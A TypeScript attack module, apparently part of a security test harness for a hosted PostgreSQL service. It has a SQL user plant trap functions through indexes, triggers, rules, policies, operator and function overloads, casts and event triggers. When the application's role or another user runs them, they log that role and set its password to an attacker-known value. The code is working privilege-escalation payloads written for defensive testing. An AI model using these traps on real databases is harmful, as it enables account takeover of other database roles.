/**
 * A SQL user of a writable database tries to run its code as the database's own role or as another SQL user: as the owner
 * of what the application made, by what the application or another user calls, and by names that its statements find.
 */
import postgres from "postgres";
import { type Attack, Tally } from "../attack";
import type { Connected, Service } from "../service";

/** Adds a row to `loot` if it runs as another role, and gives that role a password that the attacker knows. */
const TRAP = `
  create or replace function {name}_g(i int) returns int language {language} volatile as {body};
  create or replace function {name}_f(i int) returns int language {language} immutable as {call};`;

const BODIES: Record<string, { body: string; call: string }> = {
  plpgsql: {
    body: `$$ begin
      insert into public.loot values (current_user::text, '{name}');
      execute format('alter role %I password %L', current_user, 'known-to-alice'); return i; end $$`,
    call: "$$ begin return (select public.{name}_g(i)); end $$",
  },
  sql: {
    body: `$$ insert into public.loot values (current_user::text, '{name}');
      alter role current_user password 'known-to-alice'; select i $$`,
    call: "$$ select public.{name}_g(i) $$",
  },
};

/** Each waits for a statement of the application or of another SQL user, or acts at once. */
const WAYS: Record<string, string> = {
  index: "create index on app_orders ({name}_f(id))",
  predicate: "create index on app_orders (id) where {name}_f(id) > 0",
  trigger: `create function {name}_t() returns trigger language plpgsql as $$ begin
      perform public.{name}_g(1); return new; end $$;
    create trigger {name} before insert on app_orders for each row execute function {name}_t()`,
  rule: "create rule {name} as on insert to app_orders do also select {name}_g(1)",
  column_default: "alter table app_orders alter column note set default {name}_g(1)::text",
  generated: "alter table app_orders add column {name} int generated always as ({name}_f(id)) stored",
  check: "alter table app_orders add check ({name}_f(id) > 0)",
  policy: "create policy {name} on app_orders using ({name}_f(id) > 0)",
  statistics: "create statistics {name} on ({name}_f(id)), (id + 1) from app_orders",
  replaced_view: "create or replace view app_view as select {name}_f(1) as id",
  replaced_function:
    "create or replace function app_one() returns int language sql as 'select public.{name}_g(1)'",
  view: "create view seen_{way} as select {name}_g(1) as id; grant select on seen_{way} to public",
  overload: `create function lower(v varchar) returns text language plpgsql as $$ begin
      perform public.{name}_g(1); return v; end $$`,
  operator: `create function {name}_o(a int, b text) returns text language plpgsql as $$ begin
      perform public.{name}_g(1); return b; end $$;
    create operator public.|| (leftarg = int, rightarg = text, function = {name}_o)`,
  cast_in_place: `create type {name}_t as enum ('a');
    create function {name}_c({name}_t) returns int language sql as 'select public.{name}_g(1)';
    create cast ({name}_t as int) with function {name}_c({name}_t) as implicit`,
  own_default: "create table mine_{way} (id int default {name}_g(1)); grant all on mine_{way} to public",
  own_index:
    "create table mine_{way} (id int); create index on mine_{way} ({name}_f(id)); grant all on mine_{way} to public",
  own_rule: `create table mine_{way} (id int); grant all on mine_{way} to public;
    create rule {name} as on insert to mine_{way} do also select {name}_g(1)`,
  event_trigger: `create function {name}_e() returns event_trigger language plpgsql as $$ begin
      perform public.{name}_g(1); end $$;
    create event trigger {name} on ddl_command_end execute function {name}_e()`,
  set_role: "set role {own}; alter role {own} password 'known-to-alice'",
  password: "alter role {own} password 'known-to-alice'",
  grant: "grant {own} to {user} with inherit true, set true",
  defaults: "alter default privileges for role {own} grant all on tables to public",
  settings: "alter role {own} set search_path = public, pg_catalog",
  block: "do $$ begin alter role {own} password 'known-to-alice'; end $$",
};

/** Statements of the application, and of another user, that meet what was left for them. */
const USES = [
  "insert into app_orders (id) values (2)",
  "update app_orders set id = id + 1",
  "select * from app_view",
  "select app_one()",
  "select lower('A'::varchar)",
  "select 1 || 'a'::text",
  "analyze app_orders",
  "reindex table app_orders",
  "create table if not exists app_more (id int)",
];
const USES_OF_OTHERS = [
  "select * from seen_view",
  "insert into mine_{way} (id) values (1)",
  "insert into mine_{way} values (default)",
];

export const sqlUserUp: Attack = {
  name: "sql-user-up",
  finding: "S23",
  async run(service, rounds, random) {
    const tally = new Tally();
    const { mallory } = service.accounts;
    const source = await service.sourceBase("Writable for users");
    const key = await service.key({ [source.id]: "create" });
    const base = await service.connect(mallory, source, { api_key: key, settings: { live: false } });
    const users: postgres.Sql[] = [];
    try {
      const { database } = await mallory.base(base.id);
      await service.operator("database", "set-writable", database.id, "on", "--json");
      const [alice, bob] = [await sqlUser(base, "alice"), await sqlUser(base, "bob")];
      users.push(alice.sql, bob.sql);
      await base.sql
        .unsafe(`create table app_orders (id int, note text); insert into app_orders values (1);
          create view app_view as select 1 as id;
          create function app_one() returns int language sql as 'select 1'`)
        .simple();
      await alice.sql.unsafe("create table loot (who text, trap text); grant all on loot to public").simple();
      for (let round = 0; round < rounds; round++) {
        for (const [way, text] of Object.entries(WAYS)) {
          const language = random.pick(Object.keys(BODIES));
          const name = `${way}_${round}_${random.int(1, 1e6)}`;
          const filled = (sql: string) =>
            sql
              .replaceAll("{language}", language)
              .replaceAll("{body}", () => BODIES[language]!.body)
              .replaceAll("{call}", () => BODIES[language]!.call)
              .replaceAll("{name}", name)
              .replaceAll("{way}", way)
              .replaceAll("{own}", new URL(base.url).username)
              .replaceAll("{user}", new URL(alice.url).username);
          for (const part of [TRAP, text])
            await alice.sql
              .unsafe(filled(part))
              .simple()
              .catch(() => undefined);
          for (const sql of [base.sql, bob.sql]) {
            for (const use of [...USES, ...USES_OF_OTHERS])
              await sql.unsafe(filled(use)).catch(() => undefined);
          }
          const me = new URL(alice.url).username;
          const loot = await alice.sql<{ who: string }[]>`select distinct who from loot where who <> ${me}`;
          const opened = await Promise.all([base.url, bob.url].map(opensWithKnown));
          tally.add(
            (loot.length > 0 && `${way} in ${language} ran as ${loot.map(({ who }) => who).join(", ")}`) ||
              (opened.includes(true) && `${way}: another role has the user's password`),
          );
          if (tally.succeeded > 0) return tally;
        }
      }
    } finally {
      await Promise.all(users.map((sql) => sql.end({ timeout: 1 })));
      await service.disconnect(base);
    }
    return tally;
  },
};

/** Creates a SQL user of the base, and connects as it. */
export async function sqlUser(
  { account, id }: Pick<Connected, "account" | "id">,
  name: string,
): Promise<{ id: string; url: string; sql: postgres.Sql }> {
  const made = await account.ask<{ sql_user: { id: string }; credentials: { url: string } }>(
    "POST",
    `bases/${id}/sql-users`,
    { name },
  );
  const { url } = made.credentials;
  return {
    id: made.sql_user.id,
    url,
    sql: postgres(url, { max: 1, onnotice: () => {}, fetch_types: false }),
  };
}

async function opensWithKnown(url: string): Promise<boolean> {
  const known = Object.assign(new URL(url), { password: "known-to-alice" }).href;
  const sql = postgres(known, { max: 1, onnotice: () => {}, fetch_types: false, connect_timeout: 10 });
  return sql`select 1`
    .then(
      () => true,
      () => false,
    )
    .finally(() => sql.end({ timeout: 1 }));
}

/** Lets the user create functions, as on a server whose admin may not close the languages to it. */
export async function openLanguages(service: Service, base: Connected, user: { url: string }): Promise<void> {
  const role = new URL(user.url).username;
  const admin = new URL(service.env.REPLICA_URL!).username;
  await service.asSuperuser(base, (sql) =>
    sql.unsafe(`set role "${admin}"; grant usage on language plpgsql, sql to ${role}`).simple(),
  );
}
